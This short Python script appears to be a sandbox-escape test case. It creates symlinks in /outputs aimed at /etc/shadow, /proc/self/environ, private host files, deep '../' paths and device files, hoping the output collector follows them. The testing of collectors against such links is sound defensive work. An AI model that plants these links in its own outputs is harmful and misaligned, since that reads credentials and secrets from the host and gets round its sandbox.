"""Leaves links to the host's files in /outputs, in the hope that the one who collects them follows."""
# walls: root
# observe: kept unread unwritten
# depth: yes
import os

targets = {
    "file": aim.file,
    "private": aim.private,
    "directory": aim.directory,
    "shadow": "/etc/shadow",
    "environ": "/proc/self/environ",
    "parent": "..",
    "far": "../" * 40 + aim.file.lstrip("/"),
    "zero": "/dev/zero",
    "stdin": "/proc/self/fd/0",
    "self": "self",
    "dangling": aim.directory + "/made-by-a-collector",
}
for name, target in targets.items():
    try:
        os.symlink(target, f"/outputs/{name}")
        tried(f"a link to {target}")
    except OSError as error:
        tried(f"a link to {target}: {error.strerror}")
with open("/outputs/honest.txt", "w") as file:
    file.write("kept")
